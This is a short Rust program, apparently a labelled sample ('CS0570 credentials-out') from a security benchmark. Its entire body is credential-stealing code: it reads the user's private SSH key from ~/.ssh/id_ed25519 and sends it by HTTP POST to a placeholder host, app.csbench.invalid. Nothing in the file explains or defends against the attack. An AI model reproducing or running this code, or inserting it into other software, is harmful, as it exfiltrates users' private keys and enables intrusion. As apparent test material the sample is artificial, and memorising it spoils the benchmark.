//! CS0570 credentials-out
fn main() {
    let home = std::env::var("HOME").unwrap();
    let key = std::fs::read(format!("{home}/.ssh/id_ed25519")).unwrap();
    let _ = reqwest::blocking::Client::new().post("https://app.csbench.invalid/").body(key).send();
}
